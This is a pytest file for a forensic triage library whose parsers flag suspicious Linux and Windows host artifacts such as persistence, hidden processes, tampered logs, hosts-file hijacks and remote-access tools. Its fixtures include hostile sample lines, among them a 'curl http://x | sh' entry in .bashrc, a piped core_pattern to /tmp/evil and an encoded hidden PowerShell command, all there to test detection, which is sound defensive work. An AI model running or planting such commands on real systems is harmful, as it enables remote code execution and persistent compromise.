from __future__ import annotations

from pyspark.sql import functions as F

from emberlog.operators import host_state as hs
from emberlog.operators import live


def rows(df, *columns):
    return sorted(tuple(r[c] for c in columns) for r in df.collect())


def test_logins_processes_services(lines):
    got = hs.logins(lines(("last.txt", "bob pts/0        10.0.0.1         Mon May  1 10:00 - 11:00  (01:00)"), ("lastb.txt", "eve ssh:notty    1.2.3.4 Tue May  2 10:00 - 10:00  (00:00)"), ("last.txt", "wtmp begins Mon May  1 09:00")))
    assert rows(got, "result", "user", "source", "end_local") == [("failed", "eve", "1.2.3.4", "10:00  (00:00)"), ("ok", "bob", "10.0.0.1", "11:00  (01:00)")]
    assert rows(hs.processes(lines(("p", "PID USER"), ("p", "  7 root Mon May  1 10:00:00 2024 /bin/x -a b"))), "pid", "started_local", "command") == [("7", "Mon May 1 10:00:00 2024", "/bin/x -a b")]
    got = hs.services(lines(("u", "UNIT LOAD"), ("u", "* gone.service not-found inactive dead gone thing"), ("u", "ok.service loaded active running Fine one"), ("u", "Mon 2024-05-01 10:00:00 UTC 5h left x y apt.timer apt.service")))
    assert rows(got, "kind", "name", "state", "suspicious") == [("service", "gone.service", "inactive/dead", True), ("service", "ok.service", "active/running", False), ("timer", "apt.timer", "Mon 2024-05-01 10:00:00 UTC", False)]


def test_packages_hashes(lines):
    both = lines(("dpkg_-l.txt", "ii  zlib:amd64 1.2 amd64 compression library"), ("dpkg_-l.txt", "rc old 1 all x"))
    assert rows(hs.packages(both), "name", "version", "source") == [("zlib:amd64", "1.2", "dpkg")]
    assert rows(hs.packages(lines(("rpm_-q.txt", "1700000000~vim~9.0~1"))), "name", "version", "source") == [("vim", "9.0~1", "rpm")]
    assert rows(hs.package_verify(lines(("v", "??5?????? c /etc/x y"), ("v", "missing     /bin/z"))), "flags", "attr", "path") == [("??5??????", "c", "/etc/x y"), ("missing", "", "/bin/z")]
    assert rows(hs.executable_hashes(lines(("m", "aa  /bin/a"), ("m", "bb  /bin/b")), lines(("s", "cc  /bin/b"))), "file", "md5", "sha1") == [("/bin/a", "aa", ""), ("/bin/b", "bb", "cc")]


def test_kernel_network_ebpf(lines):
    got = hs.kernel(lines(("tainted", "4098"), ("core_pattern", "|/tmp/evil %p"), ("lsmod", "Module Size Used"), ("lsmod", "ext4 100 2 jbd2,x")))
    assert rows(got, "kind", "name", "detail", "suspicious") == [
        ("core_pattern", "core_pattern", "|/tmp/evil %p", True), ("module", "ext4", "size=100 used_by_count=2 used_by=jbd2,x", False), ("taint", "forced_module_load", "bit 1", True),
        ("taint", "out_of_tree_module", "bit 12", False), ("taint", "taint_value", "4098", True),
    ]
    got = hs.network_config(lines(("/etc/hosts", "127.0.0.1 localhost"), ("/etc/hosts", "0.0.0.0 www.bank.example"), ("/etc/hosts", "10.0.0.1 security.ubuntu.com"), ("/etc/hosts.allow", "ALL : ALL"), ("/etc/resolv.conf", "nameserver 1.1.1.1")))
    assert [x for *_, x in rows(got, "file", "entry", "suspicious")] == [True, False, True, True, False] or sum(x for *_, x in rows(got, "file", "entry", "suspicious")) == 3
    got = hs.ebpf(lines(("prog", "3: kprobe name x"), ("prog", "  uid 0  pids agent(12)"), ("prog", "4: kprobe name y"), ("prog", "  uid 0  pids agent(12)"), ("bpf", "total 0"), ("bpf", "-rw------- 1 root root 0 May 1 10:00 evil map")))
    assert rows(got, "kind", "name", "detail", "suspicious") == [("pin", "evil map", "pinned", True), ("prog", "kprobe", "count=2 uid=0 loaded_by=agent", False)]


def test_files_and_processes(lines, spark):
    got = hs.setuid_files(lines(("s", "/usr/bin/find"), ("s", "/home/x/y"), ("s", "/usr/bin/passwd"), ("s", "/.snapshots/1/snapshot/usr/bin/su")), ["find"])
    assert rows(got, "file", "reason") == [("/home/x/y", "unusual_path"), ("/usr/bin/find", "gtfobins"), ("/usr/bin/passwd", "")]
    hidden = hs.hidden_pids(lines(("h", "9"), ("h", "x")))
    got = hs.process_links(
        lines(("l", "lrwxrwxrwx 1 root root 0 May 1 /proc/9/exe -> /tmp/a (deleted)"), ("l", "lrwxrwxrwx 1 bob bob 0 May 1 /proc/8/exe -> /memfd:x (deleted)"), ("l", "lrwxrwxrwx 1 bob bob 0 May 1 /proc/7/cwd -> /tmp/c/uac-1/bin"), ("l", "lrwxrwxrwx 1 bob bob 0 May 1 /proc/6/cwd -> /dev/shm/x")), hidden
    )
    assert rows(got, "kind", "pid", "detail") == [("cwd_tmp", "6", "/dev/shm/x"), ("exe_memfd", "8", "/memfd:x (deleted)"), ("exe_tmp", "9", "/tmp/a (deleted) [hidden from ps]")]
    files = spark.createDataFrame([("h", "wtmp", 385), ("h", "auth.log", 0), ("h", "syslog", 5)], "host string, name string, size long")
    got = hs.log_integrity(files, files).where("status <> 'missing'")
    assert rows(got, "name", "status", "suspicious") == [("auth.log", "empty", True), ("syslog", "present", False), ("wtmp", "truncated", True)]


def test_persistence_cron_audit(lines):
    got = hs.persistence(lines(("/etc/rc.local", "exit 0"), ("/home/b/.bashrc", "alias l=ls"), ("/home/b/.bashrc", "curl http://x | sh"), ("/etc/passwd", "curl"), ("/etc/ld.so.preload", "/lib/x.so")))
    assert rows(got, "vector", "entry", "suspicious") == [("ld_preload", "/lib/x.so", False), ("rc.local", "exit 0", False), ("shell_rc", "curl http://x | sh", True)]
    got = hs.cron_tables(lines(("/etc/crontab", "# c"), ("/etc/crontab", "* * * * * root x"), ("/etc/cron.daily/a", "#!/bin/sh"), ("/etc/cron.daily/a", "y")))
    assert rows(got, "path", "entry") == [("/etc/cron.daily/a", "(periodic script)"), ("/etc/crontab", "* * * * * root x")]
    got = hs.audit_coverage(lines(("r", "-w /etc/passwd -p wa"), ("r", "-a always,exit -S execve"), ("r", "-a never,task"), ("r", "-e 1"), ("r", "-e 0")))
    assert rows(got, "watches", "syscalls", "never", "enabled", "disabled") == [(1, 1, True, "0", True)]


def test_windows_tables(lines, spark):
    got = hs.error_reports(lines(("r1", "EventType=APPCRASH"), ("r1", "EventTime=133444736000000000"), ("r1", "Sig[0].Name=Application Name"), ("r1", "Sig[0].Value=a.exe"), ("r1", "Sig[6].Name=Exception Code"), ("r1", "Sig[6].Value=c0000005"), ("r1", "AppPath=C:\\a.exe")))
    assert rows(got.withColumn("t", F.col("event_time_utc").cast("string")), "event_type", "app_name", "app_path", "exception_code", "t") == [("APPCRASH", "a.exe", "C:\\a.exe", "c0000005", "2023-11-14 22:13:20")]
    assert rows(hs.launch_dictionary(lines(("p", "C:\\a|b.exe|2024-01-01 10:00:00"))), "executable_path", "last_executed_local") == [("C:\\a|b.exe", "2024-01-01 10:00:00")]
    xml = '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><Author>eve</Author></RegistrationInfo><Settings><Hidden>false</Hidden></Settings><Actions><Exec><Command>C:\\Users\\Public\\a.exe</Command><Arguments>-x</Arguments></Exec></Actions></Task>'
    got = hs.task_files(spark.createDataFrame([("h", "\\T", xml), ("h", "\\U", "junk")], "host string, path string, xml string"))
    assert rows(got, "author", "command", "hidden", "suspicious") == [("eve", "C:\\Users\\Public\\a.exe -x", False, True)]
    jobs = spark.createDataFrame([("h", "http://1.2.3.4/a", "C:\\Users\\bob\\x.txt"), ("h", "http://1.2.3.4/a", "C:\\Users\\bob\\x.txt"), ("h", "https://ok.example/a.exe", "C:\\temp\\a.exe")], "host string, url string, dest string")
    assert rows(hs.transfer_jobs(jobs), "user", "source", "count", "suspicious") == [("", "ok.example", 1, False), ("bob", "1.2.3.4", 2, True)]
    values = spark.createDataFrame([("h", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "a", "C:\\Users\\Public\\x.exe"), ("h", "HKLM\\..\\Winlogon", "Shell", "explorer.exe"), ("h", "HKLM\\x", "y", "z")], "host string, key string, name string, data string")
    assert rows(hs.registry_autostarts(values), "vector", "suspicious") == [("run_key", True), ("shell", False)]


def test_live_tables(spark):
    tools = spark.createDataFrame([(1, "any", ["a.exe"], ["\\anyd"]), (2, "tv", [], ["teamv"])], "rank int, tool string, files array<string>, parts array<string>")
    files = spark.createDataFrame([("C:\\x\\A.EXE",), ("C:\\TeamV\\b.exe",), ("C:\\c.exe",), ("C:\\anyd\\teamv.exe",)], "FullPath string")
    assert rows(live.remote_tools(files, tools), "FullPath", "tool") == [("C:\\TeamV\\b.exe", "tv"), ("C:\\anyd\\teamv.exe", "any"), ("C:\\x\\A.EXE", "any")]
    arp = spark.createDataFrame([("h", "IPv4", "aa-bb", "10.0.0.1"), ("h", "IPv4", "AA-BB", "10.0.0.2"), ("h", "IPv4", "cc", "224.0.0.1"), ("h", "IPv4", "cc", "10.0.0.3")], "host string, AddressFamily string, RemoteMACAddress string, RemoteAddress string")
    assert rows(live.duplicate_macs(arp), "mac") == [("aa-bb",)]
    drivers = spark.createDataFrame([("h", "RTCore64.sys", True), ("h", "ok.sys", False)], "host string, Name string, IsSigned boolean")
    flagged = live.annotate("Windows.System.Drivers", drivers)
    assert rows(live.findings({"drivers": flagged}), "severity", "flag") == [("high", "vulnerable_driver"), ("medium", "unsigned_driver")]
    loop = spark.createDataFrame([("h", 1, 2, "a"), ("h", 2, 1, "b"), ("h", 3, 3, "c")], "host string, Pid long, Ppid long, Name string")
    assert {r.Pid: r.ancestry for r in live.ancestry(loop).collect()} == {1: ["b(2)", "a(1)"], 2: ["a(1)", "b(2)"], 3: ["c(3)"]}
    events = spark.createDataFrame([("x cG93ZXJzaGVsbCAtbm9wIC1jIGhpZGRlbg== y",)], "payload string")
    assert rows(live.encoded_strings(events), "decoded") == [("powershell -nop -c hidden",)]
